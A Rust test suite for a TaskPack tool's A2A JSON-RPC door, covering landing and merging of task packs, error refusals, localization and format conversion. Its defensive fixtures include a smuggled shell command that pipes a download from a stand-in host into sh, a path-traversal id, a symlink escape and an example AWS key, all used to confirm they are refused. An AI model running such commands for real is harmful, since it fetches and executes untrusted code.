//! TaskPack's A2A binding (§5, issue 22): the door `specmint a2a serve` is thin over
//! ([`Door`]), its mapping onto an A2A Task, its JSON-RPC refusals, and the conversions
//! `taskpack to-a2a` / `from-a2a`. (The official A2A SDK drives the real server in
//! tests/peers/a2a/client.py, run by ./test.sh.)

use crate::common;

use std::fs;
use std::path::Path;

use base64::Engine as _;
use serde_json::{json, Value};
use specmint::taskpack::a2a::{self, Door};
use specmint::taskpack::bag;
use specmint::taskpack::flat::{self, LuggageFile};
use specmint::taskpack::json::Json;
use specmint::taskpack::passports::PassportStore;

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;

/// A handoff from TP-SEND-0002 (root TP-ROOT-0001), with an ask, a landing check, a fact of
/// each kind (one with its words under `text`), a string decision and two artifacts.
fn handoff() -> Json {
    Json::parse(
        r#"{"spec":"task-passport-bag/0.1","kind":"handoff","packed_at":"2026-08-16T03:11:04Z",
            "origin":{"actor":"ds","machine":"mbp-14","harness":"claude-code"},
            "lineage":{"root_id":"TP-ROOT-0001","from_version":2,"chain":["TP-ROOT-0001@3","TP-SEND-0002@2"]},
            "note":"one line","passport":{"id":"TP-SEND-0002","goal":"Ship the report","version":2,
              "facts":[{"claim":"PDF, not slides","scope":"universal","verified":true},
                       {"text":"the renderer runs","scope":"machine","verified":true}],
              "decisions":["use the 2025 template"],
              "artifacts":["data/files/brief.txt","git@example.invalid:r.git#3f2a"],
              "next_steps":["finish the charts"]},
            "asks":[{"id":"a1","what":"which quarter?","accept":"a date range"}],
            "landing_checks":[{"id":"c1","check":"PDF renders","how":"r --version","required":true}]}"#,
    )
    .unwrap()
}

fn luggage() -> Vec<LuggageFile> {
    vec![LuggageFile {
        name: "brief.txt".to_owned(),
        bytes: b"hello world".to_vec(),
    }]
}

fn flat_bytes(pack: &Json, files: &[LuggageFile]) -> Vec<u8> {
    flat::write_flat(pack, files, None).unwrap().into_bytes()
}

fn zip_bytes(pack: &Json, files: &[LuggageFile]) -> Vec<u8> {
    let bag = bag::assemble(
        pack,
        files
            .iter()
            .map(|a| (a.name.clone(), a.bytes.clone()))
            .collect(),
    );
    bag::write_zip(
        std::io::Cursor::new(Vec::new()),
        &bag,
        "2026-08-16T03:11:04Z",
    )
    .unwrap()
    .into_inner()
}

/// A JSON-RPC request body.
fn rpc(method: &str, params: Value) -> Vec<u8> {
    serde_json::to_vec(&json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}))
        .unwrap()
}

/// SendMessage with one text part and one file part holding `bytes` as `filename`.
fn send(bytes: &[u8], filename: &str) -> Vec<u8> {
    rpc(
        "SendMessage",
        json!({"message": {"messageId": "m1", "role": "ROLE_USER", "parts": [
            {"text": "a transcript line that must not travel"},
            {"raw": B64.encode(bytes), "filename": filename}]}}),
    )
}

fn door(store: &Path) -> Door {
    Door {
        store: PassportStore::open(store).unwrap(),
        max_pack_bytes: a2a::DEFAULT_MAX_PACK_BYTES,
    }
}

fn answer(door: &Door, body: &[u8], activated: bool) -> Value {
    serde_json::from_str(&door.handle(body, activated).to_js_compact()).unwrap()
}

/// The error of a JSON-RPC response: (code, message, data.code).
fn error(response: &Value) -> (i64, String, Value) {
    let e = &response["error"];
    assert!(response.get("result").is_none(), "{response}");
    (
        e["code"].as_i64().unwrap(),
        e["message"].as_str().unwrap().to_owned(),
        e["data"]["code"].clone(),
    )
}

fn passports(store: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(store)
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.retain(|n| n.ends_with(".json"));
    names.sort();
    names
}

/// A stored passport with what differs between two landings of one pack (the minted id and
/// the times) taken out.
fn comparable(store: &Path, id: &str) -> String {
    let text = fs::read_to_string(store.join(format!("{id}.json"))).unwrap();
    let mut v: Value = serde_json::from_str(&text.replace(id, "<ID>")).unwrap();
    for key in ["created_at", "updated_at"] {
        v.as_object_mut().unwrap().remove(key);
    }
    v.to_string()
}

#[test]
fn the_card_declares_the_extension_not_required_with_its_params() {
    let card: Value =
        serde_json::from_str(&a2a::agent_card("http://127.0.0.1:9/").to_js_compact()).unwrap();
    assert_eq!(
        card["capabilities"]["extensions"],
        json!([{"uri": "https://taskpack.org/a2a/ext/taskpack/v1",
                "description": card["capabilities"]["extensions"][0]["description"],
                "required": false,
                "params": {"spec": "taskpack/0.1", "max_inline_attachment_bytes": 1048576,
                           "encodings": [".taskpack", ".taskpack.json"]}}])
    );
    assert_eq!(
        card["supportedInterfaces"],
        json!([{"url": "http://127.0.0.1:9/", "protocolBinding": "JSONRPC", "protocolVersion": "1.0"}])
    );
    assert!(a2a::activates([
        "x:a, https://taskpack.org/a2a/ext/taskpack/v1"
    ]));
    assert!(!a2a::activates([
        "https://taskpack.org/a2a/ext/taskpack/v2",
        ""
    ]));
}

/// The door lands as `taskpack land` does (the same passport, the same luggage), and answers
/// with the Task of the binding table; GetTask gives it back.
#[test]
fn the_door_lands_exactly_as_taskpack_land_and_answers_the_bound_task() {
    let dir = common::scratch("a2a-land");
    let (door_store, cli_store) = (dir.join("door"), dir.join("cli"));
    let file = dir.join("h.taskpack");
    fs::write(&file, zip_bytes(&handoff(), &luggage())).unwrap();
    let door = door(&door_store);
    let out = answer(&door, &send(&fs::read(&file).unwrap(), "h.taskpack"), true);
    let task = &out["result"]["task"];
    assert_eq!(task["id"], "TP-ROOT-0001");
    assert_eq!(task["contextId"], r#"["TP-ROOT-0001@3","TP-SEND-0002@2"]"#);
    assert_eq!(task["status"], json!({"state": "TASK_STATE_SUBMITTED"}));
    assert!(task.get("history").is_none(), "no message history: {task}");
    assert!(
        !task.to_string().contains("transcript line"),
        "the text part travelled"
    );
    let meta = &task["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"];
    let id = meta["passport_id"].as_str().unwrap().to_owned();
    assert_eq!(meta["landed"]["passport_id"], id.as_str());
    assert_eq!(meta["landed"]["open_asks"], json!(["a1"]));
    assert_eq!(meta["landed"]["needs_reverify"], 1);
    assert_eq!(
        meta["landed"]["landing_checks"],
        json!([{"id": "c1", "check": "PDF renders", "required": true}])
    );
    assert_eq!(
        task["artifacts"],
        // `data/files/brief.txt` names the file: it is that artifact, not another one.
        json!([
            {"artifactId": "data/files/brief.txt", "name": "brief.txt",
             "parts": [{"raw": B64.encode(b"hello world"), "filename": "brief.txt", "mediaType": "text/plain"}]},
            {"artifactId": "passport.artifacts[1]", "name": "git@example.invalid:r.git#3f2a",
             "parts": [{"text": "git@example.invalid:r.git#3f2a"}]}
        ])
    );
    // The facts' scopes, the asks and the landing checks travel in the metadata's passport.
    let state = &meta["passport"];
    assert_eq!(state["facts"][1]["scope"], "machine");
    assert_eq!(state["facts"][1]["needs_reverify"], true);
    assert_eq!(state["asks"][0]["accept"], "a date range");
    assert_eq!(state["landing_checks"][0]["id"], "c1");

    // The CLI lands the same file into its own store: the same passport and luggage.
    let (code, cli) = common::specmint_json(
        &[
            "taskpack",
            "land",
            file.to_str().unwrap(),
            "--store",
            cli_store.to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(code, 0, "{cli}");
    let cli_id = cli["id"].as_str().unwrap();
    assert_eq!(comparable(&door_store, &id), comparable(&cli_store, cli_id));
    assert_eq!(
        fs::read(door_store.join(format!("{id}.files/brief.txt"))).unwrap(),
        b"hello world"
    );

    // GetTask: the same mapping, found by Task.id (the root) and by the local id.
    let got = answer(&door, &rpc("GetTask", json!({"id": "TP-ROOT-0001"})), false);
    let mut sent = task.clone();
    sent["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]
        .as_object_mut()
        .unwrap()
        .remove("landed");
    assert_eq!(got["result"], sent);
    let by_local = answer(&door, &rpc("tasks/get", json!({"id": id})), false);
    assert_eq!(by_local["result"], sent);
}

/// A root landed again within the same second (`updated_at` has whole seconds): GetTask by the
/// root returns the passport landed last, every time. CI met this: the zip and the flat form
/// of one pack, landed back to back, and GetTask answered with the first.
#[test]
fn get_task_of_a_root_landed_twice_in_one_second_is_the_last_landing() {
    let dir = common::scratch("a2a-twice");
    let door = door(&dir.join("store"));
    let pack = zip_bytes(&handoff(), &luggage());
    for round in 0..6 {
        let out = answer(&door, &send(&pack, "h.taskpack"), true);
        let landed = out["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]
            ["passport_id"]
            .clone();
        let got = answer(&door, &rpc("GetTask", json!({"id": "TP-ROOT-0001"})), false);
        assert_eq!(
            got["result"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["passport_id"],
            landed,
            "round {round}"
        );
    }
}

/// Every way a message is not a pack the door lands is a JSON-RPC error naming it, and the
/// store is left as it was.
#[test]
fn the_door_refuses_by_name_and_leaves_the_store_as_it_was() {
    let dir = common::scratch("a2a-refuse");
    let store = dir.join("store");
    let door = door(&store);
    let pack = flat_bytes(&handoff(), &luggage());
    let cases: Vec<(Vec<u8>, bool, i64, &str, Value)> = vec![
        (send(&pack, "h.taskpack.json"), false, -32008,
         "`h.taskpack.json` is a TaskPack: activate the extension `https://taskpack.org/a2a/ext/taskpack/v1` (header `A2A-Extensions`) to send one", Value::Null),
        (send(b"notes", "notes.txt"), true, -32005, "`message.parts[1]` is `notes.txt`, not a .taskpack or .taskpack.json", Value::Null),
        (rpc("SendMessage", json!({"message": {"parts": [{"url": "https://example.invalid/p.taskpack", "filename": "p.taskpack"}]}})), true, -32602,
         "`message.parts[0]` refers to a file by `url`: the door fetches nothing, send the pack's bytes inline (`raw`)", Value::Null),
        (rpc("SendMessage", json!({"message": {"parts": [{"text": "hi"}]}})), true, -32602,
         "no part of the message is a file part (`raw` and a `filename` ending .taskpack or .taskpack.json) holding a pack", Value::Null),
        (rpc("SendMessage", json!({"message": {"parts": [{"raw": "%%%", "filename": "p.taskpack"}]}})), true, -32602,
         "`message.parts[0].raw` is not standard base64", Value::Null),
        (rpc("SendMessage", json!({"message": {"parts": [
            {"raw": B64.encode(&pack), "filename": "a.taskpack.json"}, {"raw": B64.encode(&pack), "filename": "b.taskpack.json"}]}})), true, -32602,
         "the message holds 2 packs (message.parts[0] and message.parts[1]): send one per message", Value::Null),
        (rpc("SendMessage", json!({})), true, -32602, "`params.message` is not an object", Value::Null),
        (rpc("GetTask", json!({"id": "TP-NONE-0000"})), true, -32001,
         "no task `TP-NONE-0000`: no passport of this store has it as lineage.root_id or id", Value::Null),
        (rpc("GetTask", json!({})), true, -32602, "`params.id` is not a task id", Value::Null),
        (rpc("CancelTask", json!({"id": "x"})), true, -32601, "no method `CancelTask` (SendMessage, GetTask)", Value::Null),
        (b"{not json".to_vec(), true, -32700, "the request body is not JSON", Value::Null),
        (br#"{"id":3,"method":"GetTask"}"#.to_vec(), true, -32600,
         "not a JSON-RPC 2.0 request (`jsonrpc` \"2.0\" and a `method` string)", Value::Null),
    ];
    for (body, activated, code, message, data) in cases {
        let out = answer(&door, &body, activated);
        assert_eq!(
            error(&out),
            (code, message.to_owned(), data),
            "{}",
            String::from_utf8_lossy(&body[..body.len().min(200)])
        );
    }
    // A pack landing refuses: the same code and message `taskpack land` gives, in `data.code`.
    let bad = {
        let mut p = handoff();
        specmint::taskpack::set_member(
            &mut p,
            "asks",
            Json::parse(r#"[{"id":"a9","what":"?"}]"#).unwrap(),
        );
        flat_bytes(&p, &[])
    };
    let bad_file = dir.join("bad.taskpack.json");
    fs::write(&bad_file, &bad).unwrap();
    let (code, cli) = common::specmint_json(
        &[
            "taskpack",
            "land",
            bad_file.to_str().unwrap(),
            "--store",
            dir.join("cli").to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(code, 1);
    let out = answer(&door, &send(&bad, "bad.taskpack.json"), true);
    let (rpc_code, message, data) = error(&out);
    assert_eq!((rpc_code, data), (-32602, json!("ask_without_accept")));
    assert_eq!(
        message,
        format!("ask_without_accept: {}", cli["message"].as_str().unwrap())
    );
    // Too big for the door: refused before decoding.
    let small = Door {
        max_pack_bytes: 100,
        ..door.clone()
    };
    let (code, message, _) = error(&answer(&small, &send(&pack, "h.taskpack.json"), true));
    assert_eq!(code, -32602);
    assert!(
        message.starts_with("`message.parts[1]` is ")
            && message.ends_with(" bytes (max 100): too big for this door"),
        "{message}"
    );
    assert_eq!(passports(&store), Vec::<String>::new());
}

/// A receipt is merged as `taskpack merge` would, into the passport it answers and no other.
#[test]
fn a_receipt_through_the_door_is_merged_only_into_the_passport_it_answers() {
    let dir = common::scratch("a2a-receipt");
    let store = dir.join("store");
    let passports_store = PassportStore::open(&store).unwrap();
    for id in ["TP-HOME-0001", "TP-HOME-0002"] {
        passports_store
            .create(Json::parse(&format!(
                r#"{{"id":"{id}","title":"home","goal":"g","asks":[{{"id":"a1","what":"which quarter?","accept":"a date range","status":"open","answer":null}}]}}"#
            )).unwrap())
            .unwrap();
    }
    let before = fs::read(store.join("TP-HOME-0001.json")).unwrap();
    let receipt = Json::parse(
        r#"{"spec":"task-passport-bag/0.1","kind":"receipt","packed_at":"2026-08-16T05:00:00Z",
            "origin":{"actor":"peer","machine":"box-b"},
            "lineage":{"root_id":"TP-HOME-0002","from_version":1,"chain":["TP-HOME-0002@1","TP-PEER-0009@2"]},
            "passport":{"goal":"g","facts":[{"text":"Q3 is July to September","scope":"universal","verified":true}]},
            "asks":[{"id":"a1","what":"which quarter?","accept":"a date range","status":"answered","answer":"2026-07-01 to 2026-09-30"}]}"#,
    )
    .unwrap();
    let door = door(&store);
    let out = answer(
        &door,
        &send(&flat_bytes(&receipt, &[]), "r.taskpack.json"),
        true,
    );
    let task = &out["result"]["task"];
    assert_eq!(task["id"], "TP-HOME-0002", "{out}");
    let meta = &task["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"];
    assert_eq!(meta["merged"]["answered"], json!(["a1"]));
    assert_eq!(meta["merged"]["facts_adopted"], 1);
    assert_eq!(
        meta["passport"]["asks"][0]["answer"],
        "2026-07-01 to 2026-09-30"
    );
    assert_eq!(
        fs::read(store.join("TP-HOME-0001.json")).unwrap(),
        before,
        "the other passport"
    );
    // Merged again: nothing new, nothing written (as `taskpack merge`).
    let again = answer(
        &door,
        &send(&flat_bytes(&receipt, &[]), "r.taskpack.json"),
        true,
    );
    let merged =
        &again["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["merged"];
    assert_eq!(
        (
            merged["written"].clone(),
            merged["already_answered"].clone()
        ),
        (json!(false), json!(["a1"]))
    );
    // A receipt answering a passport this store does not hold.
    let stray = {
        let mut r = receipt.clone();
        specmint::taskpack::set_member(
            &mut r,
            "lineage",
            Json::parse(r#"{"root_id":"TP-GONE-0003","from_version":1}"#).unwrap(),
        );
        r
    };
    let (code, message, _) = error(&answer(
        &door,
        &send(&flat_bytes(&stray, &[]), "s.taskpack.json"),
        true,
    ));
    assert_eq!(
        (code, message.as_str()),
        (
            -32001,
            "this receipt answers passport `TP-GONE-0003`, which is not in this store"
        )
    );
}

/// `to-a2a` then `from-a2a` gives the pack back, machine-scoped facts sealed as packing seals.
#[test]
fn to_a2a_and_from_a2a_round_trip_the_pack_and_seal_its_machine_facts() {
    let dir = common::scratch("a2a-convert");
    let pack_file = dir.join("h.taskpack.json");
    fs::write(&pack_file, flat_bytes(&handoff(), &luggage())).unwrap();
    let out = common::specmint(&["taskpack", "to-a2a", pack_file.to_str().unwrap()], b"");
    assert_eq!(out.status.code(), Some(0));
    let mut task: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(task["id"], "TP-ROOT-0001");
    assert_eq!(
        task["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["pack"],
        serde_json::from_str::<Value>(&handoff().to_js_compact()).unwrap()
    );
    // History a client adds does not travel back into the pack.
    task["history"] = json!([{"messageId": "m", "role": "ROLE_USER", "parts": [{"text": "chat"}]}]);
    let task_file = dir.join("task.json");
    fs::write(&task_file, task.to_string()).unwrap();
    for back in ["back.taskpack", "back.taskpack.json"] {
        let back = dir.join(back);
        let out = common::specmint_ok(
            &[
                "taskpack",
                "from-a2a",
                task_file.to_str().unwrap(),
                "--out",
                back.to_str().unwrap(),
                "--machine",
                "here",
            ],
            b"",
        );
        assert!(String::from_utf8_lossy(&out.stdout)
            .ends_with("(1 attachment(s), 1 fact(s) sealed, 1 history message(s) not carried)\n"));
        let (pack, files) =
            specmint::taskpack::convert::read_pack(&back, bag::Limits::default()).unwrap();
        assert_eq!(files, luggage());
        let fact = &pack
            .get("passport")
            .unwrap()
            .get("facts")
            .unwrap()
            .as_array()
            .unwrap()[1];
        assert_eq!(
            fact.to_js_compact(),
            // Read back as the reader reads an open object: listed members first.
            r#"{"scope":"machine","text":"the renderer runs","verified":false,"needs_reverify":true,"verified_on":"mbp-14"}"#
        );
        assert!(!pack.to_js_compact().contains("chat"));
        let verdict = common::specmint(&["taskpack", "conformance", back.to_str().unwrap()], b"");
        assert_eq!(
            verdict.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&verdict.stdout)
        );
    }
    // A Task whose id is not the pack's root, and one with no pack, are refused by name.
    let mut wrong = task.clone();
    wrong["id"] = json!("TP-OTHER");
    fs::write(&task_file, wrong.to_string()).unwrap();
    let out = common::specmint(
        &[
            "taskpack",
            "from-a2a",
            task_file.to_str().unwrap(),
            "--out",
            dir.join("x.taskpack").to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim_end(),
        format!("specmint: {}: not_a_task: `id` is `TP-OTHER` but the pack's `lineage.root_id` is `TP-ROOT-0001` (Task.id is lineage.root_id, §5)", task_file.display())
    );
    fs::write(&task_file, r#"{"id":"t","metadata":{}}"#).unwrap();
    let out = common::specmint(
        &[
            "taskpack",
            "from-a2a",
            task_file.to_str().unwrap(),
            "--out",
            dir.join("x.taskpack").to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("`metadata` has no `https://taskpack.org/a2a/ext/taskpack/v1` member"));
    assert!(!dir.join("x.taskpack").exists());
    // A pack in the metadata that breaks the spec: every violation, with the spec's codes.
    let mut broken = task.clone();
    broken["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["pack"]["asks"] =
        json!([{"id": "a9", "what": "?"}]);
    fs::write(&task_file, broken.to_string()).unwrap();
    let out = common::specmint(
        &[
            "taskpack",
            "from-a2a",
            task_file.to_str().unwrap(),
            "--out",
            dir.join("x.taskpack").to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("ask_without_accept at `passport.asks[0].accept`"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!dir.join("x.taskpack").exists());
}

/// The home passport `TP-HOME-0001` (ask a1 open) and a receipt answering it, as a flat pack
/// carrying `answers.md`.
fn home_and_receipt(store: &Path, chain_home: &str) -> Vec<u8> {
    PassportStore::open(store)
        .unwrap()
        .create(Json::parse(
            r#"{"id":"TP-HOME-0001","title":"home","goal":"g","asks":[{"id":"a1","what":"which quarter?","accept":"a date range","status":"open","answer":null}]}"#,
        ).unwrap())
        .unwrap();
    let receipt = Json::parse(&format!(
        r#"{{"spec":"task-passport-bag/0.1","kind":"receipt","packed_at":"2026-08-16T05:00:00Z",
            "origin":{{"actor":"peer","machine":"box-b"}},
            "lineage":{{"root_id":"TP-HOME-0001","from_version":1,"chain":[{},"TP-PEER-0009@2"]}},
            "passport":{{"goal":"g","facts":[]}},
            "asks":[{{"id":"a1","what":"which quarter?","accept":"a date range","status":"answered","answer":"Q3"}}]}}"#,
        serde_json::to_string(chain_home).unwrap()
    ))
    .unwrap();
    let answers = [LuggageFile {
        name: "answers.md".to_owned(),
        bytes: b"# answers\n".to_vec(),
    }];
    send(&flat_bytes(&receipt, &answers), "r.taskpack.json")
}

/// A receipt whose luggage would be moved into a `<ID>.files` that is a symbolic link is
/// refused naming the link, before the passport is written; nothing lands where it points.
#[cfg(unix)]
#[test]
fn a_receipt_through_the_door_moves_no_luggage_through_a_linked_files_folder() {
    let dir = common::scratch("a2a-linked-files");
    let store = dir.join("store");
    let body = home_and_receipt(&store, "TP-HOME-0001@1");
    let outside = dir.join("outside");
    fs::create_dir(&outside).unwrap();
    let link = store.join("TP-HOME-0001.files");
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    let before = fs::read(store.join("TP-HOME-0001.json")).unwrap();
    let (code, message, _) = error(&answer(&door(&store), &body, true));
    assert_eq!(
        (code, message),
        (
            -32603,
            format!(
                "cannot move luggage to `{}`: a symbolic link, which is never written through: \
                 nothing was merged",
                link.display()
            )
        )
    );
    assert_eq!(
        fs::read_dir(&outside).unwrap().count(),
        0,
        "nothing outside"
    );
    assert_eq!(fs::read(store.join("TP-HOME-0001.json")).unwrap(), before);
}

/// Once a merge is written, the answer says so: what fails after (here the home passport's
/// own luggage, gone from the store, cannot be read into the Task) does not turn into an error
/// the client would take for "nothing merged".
#[test]
fn a_merge_written_is_answered_as_merged_whatever_fails_after() {
    let dir = common::scratch("a2a-merged-then");
    let store = dir.join("store");
    let door = door(&store);
    let landed = answer(
        &door,
        &send(&flat_bytes(&handoff(), &luggage()), "h.taskpack.json"),
        true,
    );
    let id = landed["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]
        ["landed"]["passport_id"]
        .as_str()
        .unwrap()
        .to_owned();
    fs::remove_file(store.join(format!("{id}.files/brief.txt"))).unwrap();
    let receipt = Json::parse(&format!(
        r#"{{"spec":"task-passport-bag/0.1","kind":"receipt","packed_at":"2026-08-16T05:00:00Z",
            "origin":{{"actor":"peer","machine":"box-b"}},
            "lineage":{{"root_id":"TP-ROOT-0001","from_version":1,"chain":["{id}@1","TP-PEER-0009@2"]}},
            "passport":{{"goal":"g","facts":[{{"text":"Q3 is July to September","scope":"universal","verified":true}}]}}}}"#
    ))
    .unwrap();
    let out = answer(
        &door,
        &send(&flat_bytes(&receipt, &[]), "r.taskpack.json"),
        true,
    );
    let merged =
        &out["result"]["task"]["metadata"]["https://taskpack.org/a2a/ext/taskpack/v1"]["merged"];
    assert_eq!(
        (merged["written"].clone(), merged["version"].clone()),
        (json!(true), json!(2)),
        "{out}"
    );
    let stored: Value =
        serde_json::from_slice(&fs::read(store.join(format!("{id}.json"))).unwrap()).unwrap();
    assert_eq!(stored["version"], 2);
}

/// A receipt whose lineage names no passport id (a path, a shell command) is a bad request:
/// -32602 with the TaskPack code, as every refused pack, never -32603.
#[test]
fn a_receipt_naming_no_passport_id_is_invalid_params() {
    for target in ["../../outside", "HOME-1; curl http://evil.example/x | sh #"] {
        let dir = common::scratch("a2a-receipt-path");
        let store = dir.join("store");
        let body = home_and_receipt(&store, &format!("{target}@1"));
        let out = answer(&door(&store), &body, true);
        let (code, message, data) = error(&out);
        assert_eq!(
            (code, data),
            (-32602, json!("invalid_passport_id")),
            "{target}: {out}"
        );
        assert_eq!(
            message,
            format!(
                "`{}` is not a passport id: an id is 1 to 120 characters of A-Z a-z 0-9 _ -",
                target.escape_debug()
            )
        );
        assert_eq!(passports(&store), ["TP-HOME-0001.json"]);
    }
}

/// Issue 48, finding 17's kin: `taskpack from-a2a` holds no more than a Task carrying the
/// largest pack the door takes, so endless input is refused at once (exit 2), not read for ever,
/// and nothing is written.
#[test]
fn from_a2a_refuses_endless_input_by_its_size() {
    let dir = common::scratch("from-a2a-endless");
    let out_pack = dir.join("x.taskpack");
    let out = common::specmint(
        &[
            "taskpack",
            "from-a2a",
            "/dev/zero",
            "--out",
            out_pack.to_str().unwrap(),
        ],
        b"",
    );
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let limit =
        specmint::taskpack::a2a::max_message_bytes(specmint::taskpack::a2a::DEFAULT_MAX_PACK_BYTES);
    assert_eq!(
        String::from_utf8_lossy(&out.stderr).trim_end(),
        format!(
            "specmint: cannot read `/dev/zero`: over the {limit} bytes a Task carrying a pack may hold (a pack of at most 67108864 bytes, in base64, and 1 MiB besides)"
        )
    );
    assert!(!out_pack.exists());
}

/// SendMessage carrying `bytes` as a flat pack, with `metadata` on the message.
fn send_with_metadata(bytes: &[u8], metadata: Value) -> Vec<u8> {
    rpc(
        "SendMessage",
        json!({"message": {"messageId": "m1", "role": "ROLE_USER", "metadata": metadata,
            "parts": [{"raw": B64.encode(bytes), "filename": "p.taskpack.json"}]}}),
    )
}

/// The door's answer to `body`, the server having chosen `wanted` (issue 50).
fn answer_in(door: &Door, body: &[u8], wanted: Option<&str>) -> Value {
    let answer = door.answer_from_in(&mut std::io::Cursor::new(body), true, None, wanted);
    serde_json::from_str(&answer.into_response().to_js_compact()).unwrap()
}

/// A refused pack is answered in the language asked for (issue 50): the message's
/// `metadata.locale`, else what the server chose (`wanted`: the request's Accept-Language, its
/// `--locale`), else English; the A2A code, `data.code` and the path the message names do not
/// change, and English is byte for byte what it was.
#[test]
fn a_refused_pack_is_answered_in_the_language_asked_for() {
    let dir = common::scratch("a2a-locale");
    let door = door(&dir.join("store"));
    let with = |key: &str, value: &str| {
        let mut p = handoff();
        specmint::taskpack::set_member(&mut p, key, Json::parse(value).unwrap());
        flat_bytes(&p, &[])
    };
    let no_accept = with(
        "asks",
        r#"[{"id":"a9","what":"?"},{"id":"a8","what":"?","accept":" "}]"#,
    );
    let english = answer(&door, &send(&no_accept, "p.taskpack.json"), true);
    assert_eq!(
        error(&english),
        (
            -32602,
            "ask_without_accept: ask `a9` (asks[0]) has no accept; ask `a8` (asks[1]) has no accept"
                .to_owned(),
            json!("ask_without_accept")
        )
    );
    assert_eq!(
        answer_in(&door, &send(&no_accept, "p.taskpack.json"), None),
        english
    );
    let chinese = (
        -32602,
        "ask_without_accept: 請求缺少驗收條件：必須提供 `asks[0].accept`，且不可為空白; \
         請求缺少驗收條件：必須提供 `asks[1].accept`，且不可為空白"
            .to_owned(),
        json!("ask_without_accept"),
    );
    let asked = send_with_metadata(&no_accept, json!({ "locale": "zh-TW" }));
    assert_eq!(error(&answer_in(&door, &asked, None)), chinese);
    // The server's choice when the message names none; the message's outranks it.
    let plain = send(&no_accept, "p.taskpack.json");
    assert_eq!(error(&answer_in(&door, &plain, Some("zh-TW"))), chinese);
    assert_eq!(
        error(&answer_in(&door, &plain, Some("zh_TW.UTF-8"))),
        chinese
    );
    let english_asked = send_with_metadata(&no_accept, json!({ "locale": "en" }));
    assert_eq!(answer_in(&door, &english_asked, Some("zh-TW")), english);
    // A language TaskPack has no messages in is English.
    let german = send_with_metadata(&no_accept, json!({ "locale": "de" }));
    assert_eq!(answer_in(&door, &german, None), english);
    // A forbidden key, at its own path (the key), and a pack that is not the shape.
    let forbidden = with(
        "passport",
        r#"{"id":"X","goal":"g","version":1,"transcript":["hi"]}"#,
    );
    assert_eq!(
        error(&answer_in(&door, &send(&forbidden, "p.taskpack.json"), Some("zh-TW"))),
        (
            -32602,
            "forbidden_field: `passport.transcript` 是禁止使用的鍵：任務包的任何位置都不得出現對話紀錄或給模型的指示"
                .to_owned(),
            json!("forbidden_field")
        )
    );
    let kind = with("kind", r#""memo""#);
    let (_, english_kind, _) = error(&answer(&door, &send(&kind, "p.taskpack.json"), true));
    assert_eq!(
        english_kind,
        "invalid_taskpack: `kind` is `\"memo\"`, not handoff or receipt"
    );
    assert_eq!(
        error(&answer_in(&door, &send(&kind, "p.taskpack.json"), Some("zh-TW"))),
        (
            -32602,
            "invalid_taskpack: 欄位 `kind` 不符合 TaskPack 的格式（可能不是 JSON、不是物件、缺少必填成員、\
             出現未定義的成員，或型別錯誤）。英文原文：`kind` is `\"memo\"`, not handoff or receipt"
                .to_owned(),
            json!("invalid_taskpack")
        )
    );
    // A code TaskPack's messages do not cover (raised by hand-written behaviour) stays English.
    let key = with("note", r#""AKIAIOSFODNN7EXAMPLE""#);
    let english_key = answer(&door, &send(&key, "p.taskpack.json"), true);
    assert_eq!(error(&english_key).2, json!("credential"));
    assert_eq!(
        answer_in(&door, &send(&key, "p.taskpack.json"), Some("zh-TW")),
        english_key
    );
    // A tag that is not BCP 47, or not a string, is the request's mistake.
    for (bad, why) in [
        (json!("zh TW"), "`zh TW` is not a BCP 47 language tag"),
        (
            json!(7),
            "not a string such as \"zh-TW\" (a BCP 47 language tag)",
        ),
    ] {
        let out = answer_in(
            &door,
            &send_with_metadata(&no_accept, json!({ "locale": bad })),
            None,
        );
        assert_eq!(
            error(&out),
            (
                -32602,
                format!("`params.message.metadata.locale`: {why}"),
                Value::Null
            )
        );
    }
    assert!(passports(&dir.join("store")).is_empty());
}

/// What an `Accept-Language` header asks the door's refusals in: the first range by weight
/// the door can serve (a TaskPack locale, or English), else nothing (the server's default).
#[test]
fn accept_language_picks_the_first_range_the_door_serves() {
    for (header, wanted) in [
        ("zh-TW", Some("zh-TW")),
        ("fr, zh-TW;q=0.5, en;q=0.4", Some("zh-TW")),
        ("en-US,zh-TW;q=0.9", Some("en")),
        ("zh-TW;q=0.2, en;q=0.8", Some("en")),
        ("zh-Hant-TW", Some("zh-Hant-TW")),
        ("fr, de", None),
        ("zh, zh-HK", None),
        ("zh-TW;q=0", None),
        ("*", None),
        ("zh-TW;q=2", None),
        ("", None),
        ("not a tag!", None),
    ] {
        assert_eq!(a2a::accept_language(header).as_deref(), wanted, "{header}");
    }
    assert_eq!(a2a::locales(), ["zh-TW"]);
}
